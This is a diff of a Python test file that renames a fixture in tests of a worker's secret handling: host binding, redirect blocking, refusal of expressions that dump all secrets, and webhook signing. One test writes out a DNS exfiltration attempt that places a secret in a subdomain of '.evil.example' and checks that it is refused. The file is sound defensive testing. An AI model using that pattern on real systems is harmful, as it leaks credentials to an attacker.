@@ -33,7 +33,7 @@ def read_value(secret: Secret | None) -> str | None:
 
 
 @pytest.fixture
-def bound(make_caller: Any, tmp_path: Path) -> Caller:
+def secret_caller(make_caller: Any, tmp_path: Path) -> Caller:
     caller: Caller = make_caller(**write_secrets(tmp_path))
     return caller
 
@@ -147,9 +147,9 @@ async def test_hosts_bind_a_secret(tmp_path: Path, hosts: list[str] | None, host
     assert info.allows_host(host) is allowed
 
 
-async def test_a_secret_of_another_customer_reads_like_one_that_does_not_exist(bound: Caller) -> None:
-    theirs = await bound.failure("http.request", {"url": None}, secrets=use("theirs", at="/url"))
-    nobodys = await bound.failure("http.request", {"url": None}, secrets=use("nowhere", at="/url"))
+async def test_a_secret_of_another_customer_reads_like_one_that_does_not_exist(secret_caller: Caller) -> None:
+    theirs = await secret_caller.failure("http.request", {"url": None}, secrets=use("theirs", at="/url"))
+    nobodys = await secret_caller.failure("http.request", {"url": None}, secrets=use("nowhere", at="/url"))
 
     assert theirs.message == describe_missing_secret("theirs", "c")
     assert theirs.message.replace("theirs", "nowhere") == nobodys.message
@@ -157,45 +157,47 @@ async def test_a_secret_of_another_customer_reads_like_one_that_does_not_exist(b
 
 
 @pytest.mark.parametrize("expression", ["secrets", "secrets | json", "secrets | keys | first", "secrets | values"])
-async def test_all_secrets_together_are_refused_in_a_run_too(bound: Caller, expression: str) -> None:
+async def test_all_secrets_together_are_refused_in_a_run_too(secret_caller: Caller, expression: str) -> None:
     """A worker trusts no plan: one of a release before this rule may still run."""
-    failure = await bound.failure("log.message", {"message": None}, secrets={"/message": [{"expression": expression}]})
+    failure = await secret_caller.failure(
+        "log.message", {"message": None}, secrets={"/message": [{"expression": expression}]}
+    )
 
     assert failure.message == "all secrets together cannot be used"
     assert failure.non_retryable
 
 
-async def test_a_bound_secret_is_sent_to_its_hosts_only(bound: Caller, web: Web) -> None:
+async def test_a_bound_secret_is_sent_to_its_hosts_only(secret_caller: Caller, web: Web) -> None:
     web.routes["/in"] = lambda _: answer(200, {})
     parameters = {"url": f"{web.url}/in", "headers": {"x-key": None}}
     elsewhere = {**parameters, "url": f"{web.url.replace('127.0.0.1', 'localhost')}/in"}
 
-    await bound("http.request", parameters, secrets=use("bound"))
-    refused = await bound.failure("http.request", elsewhere, secrets=use("bound"))
-    await bound("http.request", elsewhere, secrets=use("token"))
+    await secret_caller("http.request", parameters, secrets=use("bound"))
+    refused = await secret_caller.failure("http.request", elsewhere, secrets=use("bound"))
+    await secret_caller("http.request", elsewhere, secrets=use("token"))
 
     assert refused.message == "the secret 'bound' may not be sent to localhost: this host is not in its `hosts`"
     assert (refused.type, refused.non_retryable) == ("validation_error", True)
     assert [seen.headers["x-key"] for seen in web.seen] == [TOKEN, TOKEN]
 
 
-async def test_a_bound_secret_follows_no_redirect_to_another_host(bound: Caller, web: Web) -> None:
+async def test_a_bound_secret_follows_no_redirect_to_another_host(secret_caller: Caller, web: Web) -> None:
     other = web.url.replace("127.0.0.1", "localhost")
     web.routes["/go"] = lambda _: answer(307, Location=f"{other}/in")
     web.routes["/in"] = lambda _: answer(200, {})
     parameters = {"url": f"{web.url}/go", "method": "POST", "json": {"key": None}}
 
-    refused = await bound.failure("http.request", parameters, secrets=use("bound", at="/json/key"))
+    refused = await secret_caller.failure("http.request", parameters, secrets=use("bound", at="/json/key"))
 
     assert refused.message.startswith("the secret 'bound' may not be sent to localhost")
     assert [seen.path for seen in web.seen] == ["/go"]
 
 
-async def test_a_bound_secret_cannot_be_part_of_a_foreign_host(bound: Caller) -> None:
+async def test_a_bound_secret_cannot_be_part_of_a_foreign_host(secret_caller: Caller) -> None:
     """Looking up the name of a host tells its owner what is in it."""
     secrets = {"/url": ["http://", {"secret": "bound"}, ".evil.example/"]}
 
-    refused = await bound.failure("http.request", {"url": None}, secrets=secrets)
+    refused = await secret_caller.failure("http.request", {"url": None}, secrets=secrets)
 
     assert (
         refused.message
@@ -203,13 +205,13 @@ async def test_a_bound_secret_cannot_be_part_of_a_foreign_host(bound: Caller) ->
     )
 
 
-async def test_a_webhook_signs_with_a_bound_secret_for_its_hosts_only(bound: Caller, web: Web) -> None:
+async def test_a_webhook_signs_with_a_bound_secret_for_its_hosts_only(secret_caller: Caller, web: Web) -> None:
     web.routes["/hook"] = lambda _: answer(200, {})
     good = {"url": f"{web.url}/hook", "text": "hi", "secret": None}
     bad = {**good, "url": f"{web.url.replace('127.0.0.1', 'localhost')}/hook"}
 
-    await bound("notify.webhook", good, secrets=use("bound", at="/secret"))
-    refused = await bound.failure("notify.webhook", bad, secrets=use("bound", at="/secret"))
+    await secret_caller("notify.webhook", good, secrets=use("bound", at="/secret"))
+    refused = await secret_caller.failure("notify.webhook", bad, secrets=use("bound", at="/secret"))
 
     assert refused.message.startswith("the secret 'bound' may not be sent to localhost")
     assert len(web.seen) == 1
